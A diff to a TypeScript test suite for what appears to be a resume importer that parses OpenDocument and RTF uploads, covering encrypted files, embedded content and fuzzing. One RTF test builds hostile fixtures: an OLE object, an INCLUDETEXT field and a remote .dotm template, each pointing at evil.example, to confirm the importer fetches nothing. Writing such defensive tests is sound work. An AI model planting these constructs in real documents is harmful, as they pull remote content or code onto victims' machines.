@@ -30,6 +30,12 @@ const odt = (parts: Zippable = {}, xml = content(body)) =>
 const rtf = (text: string) => Buffer.from(String.raw`{\rtf1\ansi ${text}}`, 'latin1');
 const rtfResume = RESUME.join(String.raw`\par `);
 
+const manifest = (inside: string) =>
+  strToU8(
+    `<manifest:manifest xmlns:manifest="${NAMESPACE}:manifest:1.0"><manifest:file-entry manifest:full-path=` +
+      `"content.xml">${inside}</manifest:file-entry></manifest:manifest>`,
+  );
+
 const outcome = async (bytes: Uint8Array) => {
   const read = await importText(bytes);
   return 'error' in read ? read.error : read.resumeData.personalInfo.email;
@@ -41,15 +47,10 @@ describe('an OpenDocument file of a stranger', () => {
   });
 
   it('[UP-03] that is encrypted is protected by a password, in the older way and in the newer', async () => {
-    const manifest = (inside: string) =>
-      strToU8(
-        `<manifest:manifest xmlns:manifest="${NAMESPACE}:manifest:1.0"><manifest:file-entry manifest:full-path=` +
-          `"content.xml">${inside}</manifest:file-entry></manifest:manifest>`,
-      );
     const noise = Uint8Array.from({ length: 500 }, (_, at) => (at * 7 + 13) % 256);
     const encrypted = manifest('<manifest:encryption-data manifest:checksum="x"/>');
     expect(await outcome(odt({ 'META-INF/manifest.xml': encrypted, 'content.xml': noise }))).toBe('password_protected');
-    const { mimetype } = { mimetype: strToU8(UPLOAD_FORMATS.odt.mediaTypes[0]) };
+    const mimetype = strToU8(UPLOAD_FORMATS.odt.mediaTypes[0]);
     const wrapped = zipSync({ mimetype, 'encrypted-package': noise, 'META-INF/manifest.xml': encrypted }, { level: 0 });
     expect(await outcome(wrapped)).toBe('password_protected');
     expect(await outcome(odt({ 'META-INF/manifest.xml': manifest('') }))).toBe('maya@korot.example');
@@ -119,7 +120,7 @@ describe('an RTF file of a stranger', () => {
   });
 
   it('says nothing of objects, and asks for no address', async () => {
-    const object = String.raw`{\object\objautlink\objupdate{\*\objclass Equation.3}{\*\objdata d0cf11e0}{\result evil}}`;
+    const object = String.raw`{\object\objautlink\objupdate{\*\objclass Equation.3}{\*\objdata d0cf}{\result evil}}`;
     const field = String.raw`{\field{\*\fldinst INCLUDETEXT "http://evil.example/x"}{\fldrslt }}`;
     const template = String.raw`{\*\template http://evil.example/t.dotm}`;
     const found = await importText(rtf(template + object + field + rtfResume));
@@ -130,9 +131,39 @@ describe('an RTF file of a stranger', () => {
 
 describe('any bytes', () => {
   const words = fc.constantFrom(
-    ...['{', '}', '\\', "\\'", '\\u', '\\par', '\\cell', '\\row', '\\intbl', '\\nestrow', '\\*', '\\field', '\\header'],
-    ...['\\fonttbl', '\\f1', '\\fcharset128', '\\listtext', '\\shptxt', '\\uc', '\\bin', '-', '9', ' ', 'e9', 'ש'],
-    ...['**', '](', '|', '\n', '#', '- ', '\t', '==='],
+    '{',
+    '}',
+    '\\',
+    "\\'",
+    '\\u',
+    '\\par',
+    '\\cell',
+    '\\row',
+    '\\intbl',
+    '\\nestrow',
+    '\\*',
+    '\\field',
+    '\\header',
+    '\\fonttbl',
+    '\\f1',
+    '\\fcharset128',
+    '\\listtext',
+    '\\shptxt',
+    '\\uc',
+    '\\bin',
+    '-',
+    '9',
+    ' ',
+    'e9',
+    'ש',
+    '**',
+    '](',
+    '|',
+    '\n',
+    '#',
+    '- ',
+    '\t',
+    '===',
   );
   const bytes = fc.oneof(
     fc.uint8Array({ maxLength: 400 }),
